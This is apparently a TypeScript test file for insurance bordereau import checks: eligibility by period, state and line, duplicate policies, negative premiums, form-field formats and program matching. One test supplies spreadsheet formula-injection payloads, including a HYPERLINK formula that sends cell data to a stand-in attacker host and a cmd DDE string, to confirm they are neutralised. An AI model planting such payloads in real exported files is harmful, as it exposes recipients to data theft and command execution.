import { bdxCellKinds, bdxEligibilityOf, bdxImportChecker, bdxProgramColumnOf, bdxProgramOfCell, bdxImportColumns, bdxImportRow, checkBdxRowsEligible, formatBdxCell, formatRule, safeSheetCell, safeSheetRows } from './index';

const RULE = {
  period: { from: '2026-12-01', to: '2026-12-31' },
  states: [
    { state_code: 'TX', state_name: 'Texas' },
    { state_code: 'GA', state_name: 'Georgia' },
  ],
  lobNames: ['Commercial Auto', 'Trucking'],
};
const COLUMNS = ['Policy Number', 'Effective Date', 'State', 'LOB', 'Premium'];

describe('bordereau period and eligibility', () => {
  it('makes a file\'s rule from its period and line: the month\'s days (a leap February too), the states offered, the line\'s names', () => {
    expect(bdxEligibilityOf('122026', RULE.states, { category_name: 'Commercial Auto', sublob: 'Trucking' })).toEqual(RULE);
    expect(bdxEligibilityOf('022028', [], { category_name: 'Homeowners', sublob: null })).toEqual({
      period: { from: '2028-02-01', to: '2028-02-29' },
      states: [],
      lobNames: ['Homeowners'],
    });
  });

  it('lists rows outside the period, or of a state or line not offered, by row number, and leaves their premiums out', () => {
    const check = checkBdxRowsEligible(
      [
        ['P-1', '2026-12-05', 'TX', 'Commercial Auto', '1250.00'],
        ['P-2', '2022-12-05', 'tx', 'commercial auto', '500.00'],
        ['P-3', '12/31/2026', 'Florida', 'Trucking', '100.00'],
        ['P-4', '2026-12-01', 'Georgia', 'Homeowners', '75.50'],
        ['P-5', '', '', '', '20.00'],
      ],
      COLUMNS,
      RULE,
    );
    expect(check.rowCount).toBe(5);
    expect(check.validRowCount).toBe(2);
    expect(check.computedCents).toBe(127000);
    expect(check.problemCount).toBe(3);
    expect(check.problems).toEqual([
      { row: 2, reason: 'Effective Date 12-05-2022 is outside the period 12/2026' },
      { row: 3, reason: "State 'Florida' is not a state of this line of business" },
      { row: 4, reason: "Line of business 'Homeowners' is not this file's line" },
    ]);
  });

  it('keeps the row checks of bdx-rows and passes any state when the line lists none', () => {
    const check = checkBdxRowsEligible([['', '2026-12-02', 'ZZ', '', 'abc']], COLUMNS, { ...RULE, states: [] });
    expect(check.problems).toEqual([{ row: 1, reason: "Policy Number is missing; Premium 'abc' is not an amount" }]);
  });
});

describe('a carrier\'s file, imported into the book: each policy once, no negative premium (importedIntoBook)', () => {
  const HEADER = ['Policy Number', 'Insured Name', 'Effective Date', 'State', 'Premium'];
  const rows = [
    ['P-1', 'Ana Smith', '2026-12-01', 'TX', '100.00'],
    ['P-2', 'Ben Jones', '2026-12-02', 'TX', '200.00'],
    ['p-1', 'Ana Smith', '2026-12-01', 'TX', '100.00'],
    ['P-4', 'Cy Young', '2026-12-40', 'TX', '50.00'],
    ['P-4', 'Cy Young', '2026-12-04', 'TX', '50.00'],
    ['P-2', 'Ben Jones', '2026-12-02', 'TX', '200.00'],
  ];

  it('sets the rule for a carrier\'s file only', () => {
    expect(bdxEligibilityOf('122026', RULE.states, { category_name: 'Commercial Auto' }, { importedIntoBook: true }).importedIntoBook).toBe(true);
    expect(bdxEligibilityOf('122026', RULE.states, { category_name: 'Commercial Auto' })).not.toHaveProperty('importedIntoBook');
  });

  it('lists a sound row of the same policy as an earlier sound row, naming that row, and leaves its premium out', () => {
    const check = checkBdxRowsEligible(rows, HEADER, { ...RULE, importedIntoBook: true });
    expect(check.problems).toEqual([
      { row: 3, reason: 'Same policy as row 1' },
      { row: 4, reason: "Effective Date '2026-12-40' is not a date" },
      { row: 6, reason: 'Same policy as row 2' },
    ]);
    expect(check.validRowCount).toBe(3);
    expect(check.computedCents).toBe(35_000);
  });

  it('leaves repeated policies alone in a file the client makes (a row per transaction)', () => {
    expect(checkBdxRowsEligible(rows, HEADER, RULE).problems).toEqual([{ row: 4, reason: "Effective Date '2026-12-40' is not a date" }]);
  });

  const signed = [
    ['P-1', 'Ana Smith', '2026-12-01', 'TX', '100.00'],
    ['P-2', 'Ben Jones', '2026-12-02', 'TX', '-50'],
    ['P-3', 'Cy Young', '2026-12-03', 'TX', '(25.00)'],
  ];

  it('lists a negative premium as the import refuses it, and leaves it out of the computed total', () => {
    const check = checkBdxRowsEligible(signed, HEADER, { ...RULE, importedIntoBook: true });
    const imported = signed.map((cells) => bdxImportRow(cells, bdxImportColumns(HEADER)));
    expect(imported.map((row) => (row.ok ? [] : row.reasons))).toEqual([[], ["Premium '-50' is negative"], ["Premium '(25.00)' is negative"]]);
    expect(check.problems).toEqual([
      { row: 2, reason: "Premium '-50' is negative" },
      { row: 3, reason: "Premium '(25.00)' is negative" },
    ]);
    expect([check.problemCount, check.validRowCount, check.computedCents]).toEqual([2, 1, 10_000]);
  });

  it('keeps a negative premium in a file the client makes (a cancellation\'s return premium)', () => {
    const check = checkBdxRowsEligible(signed, HEADER, RULE);
    expect([check.problemCount, check.validRowCount, check.computedCents]).toEqual([0, 3, 2_500]);
  });

  it('words a state the line does not offer as the import does', () => {
    const cells = ['P-9', 'Di Lane', '2026-12-09', 'FL', '10.00'];
    expect(checkBdxRowsEligible([cells], HEADER, { ...RULE, importedIntoBook: true }).problems).toEqual([
      { row: 1, reason: "State 'FL' is not a state of this line of business" },
    ]);
  });
});

describe('spreadsheet cells handed on', () => {
  it('quotes cells a spreadsheet would run as formulas; numbers stay numbers', () => {
    expect(safeSheetCell('=HYPERLINK("http://evil.example/?d="&C3,"Click me")')).toBe('\'=HYPERLINK("http://evil.example/?d="&C3,"Click me")');
    expect(safeSheetCell("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(safeSheetCell('-2+3')).toBe("'-2+3");
    expect(safeSheetCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(safeSheetCell('\tx')).toBe("'\tx");
    expect(safeSheetCell('\rx')).toBe("'\rx");
    expect(safeSheetCell('-80.00')).toBe('-80.00');
    expect(safeSheetCell(-80)).toBe(-80);
    expect(safeSheetCell('Acme = Roofing')).toBe('Acme = Roofing');
    expect(safeSheetRows([['=1', 2, null]])).toEqual([["'=1", 2, null]]);
  });
});

describe('mapped rows shown', () => {
  it('shows premiums as $1,250.00 and dates as MM-DD-YYYY; other cells as written', () => {
    const kinds = bdxCellKinds(['Policy Number', 'Effective Date', 'Premium', 'Expiry Date', 'Insured']);
    expect(kinds).toEqual(['text', 'date', 'money', 'date', 'text']);
    expect(formatBdxCell('money', '1250')).toBe('$1,250.00');
    expect(formatBdxCell('money', '$2,000.5')).toBe('$2,000.50');
    expect(formatBdxCell('money', '(80.00)')).toBe('-$80.00');
    expect(formatBdxCell('money', 'n/a')).toBe('n/a');
    expect(formatBdxCell('date', '2026-03-01')).toBe('03-01-2026');
    expect(formatBdxCell('date', '3/9/2026')).toBe('03-09-2026');
    expect(formatBdxCell('date', 'soon')).toBe('soon');
    expect(formatBdxCell('text', '0042')).toBe('0042');
  });
});

describe("a carrier's file: the review lists the rows the import refuses by the form's rules (bdxImportChecker)", () => {
  const attribute = (id: number, name: string, attribute_name: string, attributeformat: string | null, type: 'text' | 'email' = 'text') => ({
    id,
    group_id: 1,
    name,
    attribute_name,
    attribute_type: type,
    isrequired: '',
    description: null,
    attributeformat,
    ...formatRule(attributeformat),
    radiogroup: null,
    selectgroup: null,
    rank: id,
  });
  // The seeded insured group's formats: ZIP Code 99999, Phone Number (999) 999-9999.
  const insuredFields = {
    zipcode: attribute(1, 'ZIP Code', 'zipcode', '99999'),
    phonenumber: attribute(2, 'Phone Number', 'phonenumber', '(999) 999-9999'),
    email: attribute(3, 'Email', 'email', null, 'email'),
  };
  const HEADER = ['Policy Number', 'Insured Name', 'First Name', 'Effective Date', 'State', 'Premium', 'email', 'zipcode', 'phonenumber'];
  const rows = [
    ['F-1', 'Ann Lee', 'A'.repeat(300), '2026-12-01', 'TX', '100.00', '', '', ''],
    ['F-2', 'Madonna', '', '2026-12-01', 'TX', '100.00', '', '', ''],
    ['F-3', 'Ann Lee', '', '2026-12-01', 'TX', '100.00', 'not-an-email', '', ''],
    ['F-4', 'Ann Lee', '', '2026-12-01', 'TX', '100.00', '', 'ABCDE', ''],
    ['F-5', 'Ann Lee', '', '2026-12-01', 'TX', '100.00', '', '', '12'],
    ['F-6', 'Ann Lee', '', '2026-12-01', 'TX', '14.999', '', '', ''],
    ['F-7', 'Ann Lee', '', '2026-12-01', 'TX', '1234.57', 'ann@example.com', '78701', '+1 (512) 555-0147'],
    ['F-8', 'Ann Lee', '', '2026-12-01', '', '10.00', '', '', ''],
  ];
  const REFUSED = [
    { row: 1, reason: 'Last Name is missing; First Name is longer than 100 characters' },
    { row: 2, reason: "Insured Name 'Madonna' is one word: the form needs a First Name and a Last Name" },
    { row: 3, reason: "Email 'not-an-email' is not an email address" },
    { row: 4, reason: "Zip Code 'ABCDE' does not match the format 99999" },
    { row: 5, reason: "Phone Number '12' does not match the format (999) 999-9999" },
    { row: 6, reason: "Premium '14.999' is not an amount" },
    { row: 8, reason: 'State is missing' },
  ];

  it('lists rows 1-6 and 8 with the import\'s reasons, counts them, and totals the one sound row ($1,234.57)', () => {
    const rule = bdxEligibilityOf('122026', RULE.states, { category_name: 'Property' }, { importedIntoBook: true, insuredFields });
    const check = checkBdxRowsEligible(rows, HEADER, rule);
    expect(check.problems).toEqual(REFUSED);
    expect(check.problemCount).toBe(7);
    expect(check.validRowCount).toBe(1);
    expect(check.computedCents).toBe(123457);
  });

  it('is the import\'s own check: the same reasons row by row, the sound row\'s values as the record stores them', () => {
    const importCheck = bdxImportChecker(HEADER, { states: RULE.states, insuredFields });
    const refused = rows.map((cells, index) => ({ row: index + 1, reason: importCheck(cells).reasons.join('; ') })).filter((row) => row.reason !== '');
    expect(refused).toEqual(REFUSED);
    const sound = importCheck(rows[6]!);
    expect(sound.state).toEqual({ state_code: 'TX', state_name: 'Texas' });
    expect(sound.values).toMatchObject({ firstname: 'Ann', lastname: 'Lee', zipcode: '78701', phonenumber: '15125550147', email: 'ann@example.com', policyamount: '1234.57' });
  });

  it('lists nothing of the form\'s rules for a file the client makes (not imported)', () => {
    const check = checkBdxRowsEligible(rows, HEADER, bdxEligibilityOf('122026', RULE.states, { category_name: 'Property' }));
    expect(check.problems).toEqual([{ row: 6, reason: "Premium '14.999' is not an amount" }]);
  });
});

describe("a carrier's file: a Program cell must name a program of the line (bdxProgramOfCell)", () => {
  const PROGRAMS = [
    { program_code: 'CA-STD', program_name: 'Commercial Auto Standard' },
    { program_code: 'CA-FLT', program_name: 'Fleet' },
  ];
  const HEADER = ['Policy Number', 'Insured Name', 'Effective Date', 'State', 'Premium', 'Program'];
  const rows = [
    ['G-1', 'Ann Lee', '2026-12-01', 'TX', '100.00', 'ca-std'],
    ['G-2', 'Bo Diaz', '2026-12-02', 'TX', '200.00', 'Fleet'],
    ['G-3', 'Cy Moss', '2026-12-03', 'TX', '300.00', 'Homeowners Plus'],
    ['G-4', 'Di Park', '2026-12-04', 'TX', '400.00', ''],
  ];

  it('matches a program by code or name, case aside; an unknown name or, with several programs, an empty cell is why the row has none', () => {
    expect(bdxProgramOfCell(PROGRAMS, 'CA-STD')).toBe(PROGRAMS[0]);
    expect(bdxProgramOfCell(PROGRAMS, 'fleet')).toBe(PROGRAMS[1]);
    expect(bdxProgramOfCell(PROGRAMS, 'Homeowners Plus')).toBe("Program 'Homeowners Plus' is not a program of this line of business");
    expect(bdxProgramOfCell(PROGRAMS, '')).toBe('Program is missing');
    expect(bdxProgramOfCell([PROGRAMS[1]!], '')).toBe(PROGRAMS[1]);
    expect(bdxProgramColumnOf(HEADER)).toBe(5);
    expect(bdxProgramColumnOf(['Program Code', 'Premium'])).toBe(0);
    expect(bdxProgramColumnOf(['Premium'])).toBe(-1);
  });

  it('lists a row naming no program of the line with the import\'s reason, counts it and leaves its premium out; a known code or name is no problem', () => {
    const rule = bdxEligibilityOf('122026', RULE.states, { category_name: 'Commercial Auto' }, { importedIntoBook: true, programs: PROGRAMS });
    const check = checkBdxRowsEligible(rows, HEADER, rule);
    expect(check.problems).toEqual([
      { row: 3, reason: "Program 'Homeowners Plus' is not a program of this line of business" },
      { row: 4, reason: 'Program is missing' },
    ]);
    expect(check.problemCount).toBe(2);
    expect(check.validRowCount).toBe(2);
    expect(check.computedCents).toBe(30000);
  });

  it('checks no program for a file the client makes (not imported)', () => {
    const rule = bdxEligibilityOf('122026', RULE.states, { category_name: 'Commercial Auto' }, { programs: PROGRAMS });
    expect(rule).not.toHaveProperty('programs');
    expect(checkBdxRowsEligible(rows, HEADER, rule).problemCount).toBe(0);
  });
});
